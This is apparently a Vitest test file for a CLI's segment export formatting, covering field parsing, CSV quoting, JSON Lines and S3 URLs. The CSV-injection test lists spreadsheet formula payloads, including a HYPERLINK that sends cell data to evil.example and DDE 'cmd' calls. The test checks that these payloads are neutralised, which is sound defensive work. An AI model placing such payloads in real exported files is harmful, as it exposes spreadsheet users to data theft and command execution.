/** `cairn export segment` formatting: field parsing, CSV cells (RFC 4180 quoting), JSON Lines, S3 URLs. */
import { describe, expect, it } from 'vitest';
import { csvCell, csvHeader, formatRow, parseFields, parseS3Url, type ApiProfile } from '#cli/export';

const p: ApiProfile = {
  profileId: 'p-1',
  identities: [
    { type: 'email', value: 'a@x.com' },
    { type: 'email', value: 'b@x.com' },
    { type: 'user_id', value: 'u1' },
  ],
  traits: { name: 'Doe, "Jo"', address: { city: 'Paris' }, tags: ['a', 'b'] },
  computed: { rfm_group: 'at_risk', revenue: 12.5 },
  consent: { ads: { granted: false } },
  segments: ['s1'],
};

describe('export formatting', () => {
  it('default columns; identifier types, paths and consent parsed; bad names refused', () => {
    expect(parseFields([]).map((f) => f.name)).toEqual(['profile_id', 'user_id', 'email', 'phone']);
    expect(parseFields(['email,traits.address.city', 'computed.rfm_group,consent.ads']).map((f) => f.kind)).toEqual([
      'identifier',
      'traits',
      'computed',
      'consent',
    ]);
    expect(() => parseFields(['email,email'])).toThrow(/twice/);
    expect(() => parseFields(['foo.bar'])).toThrow(/traits\., computed\. or consent/);
    expect(() => parseFields(['traits.'])).toThrow(/empty path/);
    expect(() => parseFields(['consent.a.b'])).toThrow(/consent/);
  });

  it('CSV: quotes around commas, quotes doubled, newlines kept quoted, null empty, several identifiers joined with ;', () => {
    const fields = parseFields(['profile_id,email,phone,traits.name,traits.address,traits.tags,computed.revenue,consent.ads,consent.sms,segments']);
    expect(csvHeader(parseFields(['traits.a,b']))).toBe('traits.a,b\r\n');
    expect(formatRow(p, fields, 'csv')).toBe('p-1,a@x.com;b@x.com,,"Doe, ""Jo""","{""city"":""Paris""}",a;b,12.5,false,,s1\r\n');
    expect(csvCell('line1\nline2')).toBe('"line1\nline2"');
    expect(csvCell('+14155550100')).toBe('+14155550100');
  });

  it('CSV injection: a value a spreadsheet would run as a formula is neutralised with a leading quote; phones and numbers are not', () => {
    // Traits are attacker-controlled (any write key can set them): opened in Excel or Sheets, these would run.
    for (const attack of [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      '-2+3+cmd|x',
      '\t=1+1',
      '\r=1',
    ]) {
      const cell = csvCell(attack);
      expect(cell.replace(/^"/, ''), attack).toMatch(/^'/);
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+14155550100')).toBe('+14155550100');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('JSON Lines: typed values, absent as null, several identifiers as an array', () => {
    const fields = parseFields(['email,user_id,traits.address.city,traits.missing,computed.rfm_group,consent.ads']);
    expect(JSON.parse(formatRow(p, fields, 'jsonl'))).toEqual({
      email: ['a@x.com', 'b@x.com'],
      user_id: 'u1',
      'traits.address.city': 'Paris',
      'traits.missing': null,
      'computed.rfm_group': 'at_risk',
      'consent.ads': false,
    });
  });

  it('S3 URLs', () => {
    expect(parseS3Url('s3://my-bucket/exports/a b.csv')).toEqual({ bucket: 'my-bucket', key: 'exports/a b.csv' });
    expect(() => parseS3Url('s3://my-bucket')).toThrow(/s3:\/\//);
    expect(() => parseS3Url('s3://B/k')).toThrow(/s3:\/\//);
  });
});
